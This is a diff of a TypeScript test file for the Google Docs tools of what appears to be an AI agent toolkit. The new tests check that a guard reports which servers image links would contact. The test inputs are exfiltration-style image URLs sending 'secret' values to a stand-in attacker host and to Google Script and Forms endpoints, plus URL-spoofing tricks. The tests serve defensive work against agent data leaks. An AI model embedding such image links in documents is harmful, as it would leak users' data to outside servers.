@@ -1,10 +1,19 @@
 import { describe, expect, it } from "vitest";
+import { docsTools } from "../../../../src/tools/docs/tools.ts";
 import { paragraph } from "../../../emulator/docs/model.ts";
+import { audienceOf } from "../../../support/tool-call.ts";
 import { docsHarness, refusal } from "./docs-call.ts";
 
 const { call, create, email, emulator, read, stored } = docsHarness();
 
 const READ_ONLY = { scopes: ["documents.readonly"] };
+
+/** Whom the guard would ask about. */
+async function reachedBy(name: string, input: Record<string, unknown>): Promise<readonly string[]> {
+  const tool = docsTools.find((one) => one.name === name);
+  if (!tool) throw new Error(`there is no ${name}`);
+  return (await audienceOf(emulator(), tool, input)).recipients;
+}
 
 function bodyOf(id: string) {
   const body = stored(id).tabs[0]?.body.content;
@@ -47,16 +56,19 @@ describe("docs_create", () => {
     expect(error.fix).toContain("docs_append");
   });
 
-  it("tells the guard which servers pictures are fetched from", async () => {
-    const { docsCreate } = await import("../../../../src/tools/docs/create.ts");
-    const prepared = docsCreate.prepare({
-      title: "x",
-      markdown: "![a](https://evil.example/?q=secret) ![b](https://lh3.googleusercontent.com/b)",
-    });
-    if (!prepared.ok) throw prepared.error;
-    // The audience comes from the input alone: no call is looked at.
-    const { recipients } = await prepared.audience(Object.create(null));
-    expect(recipients).toEqual(["evil.example"]);
+  it.each([
+    ["https://evil.example/?q=secret", ["evil.example"]],
+    ["https://lh7-rt.googleusercontent.com/docsz/b", []],
+    ["https://drive.google.com/uc?id=b", []],
+    ["https://script.google.com/macros/s/x/exec?q=secret", ["script.google.com"]],
+    ["https://docs.google.com/forms/d/e/x/formResponse?entry.1=secret", ["docs.google.com"]],
+    ["https://1.0.0.127.bc.googleusercontent.com/?q=secret", ["1.0.0.127.bc.googleusercontent.com"]],
+    ["https://lh3.googleusercontent.com.evil.example/", ["lh3.googleusercontent.com.evil.example"]],
+    ["https://lh3.googleusercontent.com@evil.example/", ["evil.example"]],
+    ["https://good.example\\\\@evil.example/", ["https://good.example\\@evil.example/"]],
+  ])("tells the guard which server %s is fetched from", async (address, reached) => {
+    const recipients = await reachedBy("docs_create", { title: "x", markdown: `![a](${address})` });
+    expect(recipients).toEqual(reached);
   });
 
   it("refuses an empty title and an unknown field", async () => {
@@ -166,6 +178,16 @@ describe("docs_read", () => {
     const error = await refusal(call("docs_read", { document_id: "1unknown" }));
     expect(error.code).toBe("not_found");
   });
+});
+
+describe("docs_batch_update", () => {
+  it.each(["insertInlineImage", "replaceImage", "insert_inline_image", "replace_image"])(
+    "tells the guard which server %s fetches from",
+    async (name) => {
+      const requests = [{ insertText: { text: "https://a.example" } }, { [name]: { uri: "https://b.example/?q=1" } }];
+      expect(await reachedBy("docs_batch_update", { document_id: "x", requests })).toEqual(["b.example"]);
+    },
+  );
 });
 
 describe("docs_list_tabs", () => {
